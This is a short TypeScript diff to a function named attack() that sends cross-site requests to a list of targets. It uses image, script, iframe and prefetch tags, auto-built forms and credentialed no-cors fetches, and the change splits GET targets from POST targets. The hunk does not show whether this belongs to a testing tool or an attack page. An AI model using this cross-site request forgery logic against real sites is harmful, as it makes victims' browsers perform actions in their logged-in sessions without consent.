@@ -71,14 +71,17 @@ function attack(aims: readonly Target[]): void {
 
   for (const aim of aims) {
     const json = JSON.stringify(aim.body ?? {})
-    element('img', { src: aim.url })
-    element('script', { src: aim.url })
-    element('iframe', { src: aim.url })
-    element('link', { rel: 'prefetch', href: aim.url })
-    form(aim, 'application/x-www-form-urlencoded', 'post')
-    form(aim, 'text/plain', 'post')
-    form(aim, 'multipart/form-data', 'post')
-    if (aim.method === 'GET') form(aim, 'application/x-www-form-urlencoded', 'get')
+    if (aim.method === 'GET') {
+      element('img', { src: aim.url })
+      element('script', { src: aim.url })
+      element('iframe', { src: aim.url })
+      element('link', { rel: 'prefetch', href: aim.url })
+      form(aim, 'application/x-www-form-urlencoded', 'get')
+    } else {
+      form(aim, 'application/x-www-form-urlencoded', 'post')
+      form(aim, 'text/plain', 'post')
+      form(aim, 'multipart/form-data', 'post')
+    }
     send(aim.url, { credentials: 'include', mode: 'no-cors' })
     send(aim.url, { credentials: 'include', mode: 'no-cors', method: 'POST', body: json })
     const withBody = aim.method === 'GET' ? {} : { body: json }
